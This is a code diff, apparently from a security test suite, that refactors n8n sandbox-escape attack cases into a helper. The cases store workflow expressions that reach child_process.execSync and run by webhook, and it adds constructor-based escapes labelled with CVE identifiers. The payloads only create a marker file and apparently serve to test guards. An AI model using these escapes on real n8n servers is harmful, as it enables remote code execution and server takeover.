@@ -1,6 +1,6 @@
 // n8n: workflows of nodes, whose editors write expressions and JavaScript that the server runs, by design.
 import { join } from 'node:path';
-import type { Application } from '../application.ts';
+import type { Application, ApplicationAttack } from '../application.ts';
 import { difficult, type User } from '../user.ts';
 
 type Node = Readonly<Record<string, unknown>>;
@@ -125,6 +125,31 @@ async function workflow(user: User, name: string, nodes: readonly Node[]): Promi
   user.hide(id);
   await user.patch(`/rest/workflows/${id}`, { active: true, versionId }, { statusOnly: true });
   return id;
+}
+
+/** A workflow whose expression leaves for the process, stored, and run by a webhook later. */
+function later(id: string, title: string, expression: (code: string) => string): ApplicationAttack {
+  const path = id.toLowerCase();
+  return {
+    id,
+    guard: 'code-injection',
+    title,
+    async attempt(user, { made, appears }) {
+      const file = made();
+      const code = `process.mainModule.require("child_process").execSync("touch ${file}").toString()`;
+      const value = `={{ ${expression(code)} }}`;
+      const set = {
+        name: 'Set',
+        type: 'n8n-nodes-base.set',
+        typeVersion: 3.4,
+        parameters: { assignments: { assignments: [{ id: 'a', name: 'x', type: 'string', value }] }, options: {} },
+      };
+      await workflow(user, path, [hook(path), set]);
+      await new Promise((resolve) => setTimeout(resolve, 500));
+      await user.post(`/webhook/${path}`, { text: 'now' });
+      return appears(file);
+    },
+  };
 }
 
 export default {
@@ -271,25 +296,18 @@ export default {
         return appears(file);
       },
     },
-    {
-      id: 'CVE-2025-68613',
-      guard: 'code-injection',
-      title: 'the same, run by a webhook later',
-      async attempt(user, { made, appears }) {
-        const file = made();
-        const value = `={{ (function () { return this.process.mainModule.require("child_process").execSync("touch ${file}").toString() })() }}`;
-        const set = {
-          name: 'Set',
-          type: 'n8n-nodes-base.set',
-          typeVersion: 3.4,
-          parameters: { assignments: { assignments: [{ id: 'a', name: 'x', type: 'string', value }] }, options: {} },
-        };
-        await workflow(user, 'later', [hook('later'), set]);
-        await new Promise((resolve) => setTimeout(resolve, 500));
-        await user.post('/webhook/later', { text: 'now' });
-        return appears(file);
-      },
-    },
+    later('CVE-2025-68613', 'the same, run by a webhook later', (code) => `(function () { return this.${code} })()`),
+    later(
+      'CVE-2026-25049',
+      'as above, by a constructor taken out of a function with braces',
+      (code) => `(() => { const { constructor } = () => {}; return constructor('return ${code}')() })()`,
+    ),
+    later(
+      'CVE-2026-1470',
+      'as above, by a constructor that a with statement gives its name',
+      (code) =>
+        `(function () { var constructor = 1; with (function () {}) { return constructor('return ${code}')() } })()`,
+    ),
     {
       id: 'CVE-2026-21858',
       guard: 'path-traversal',
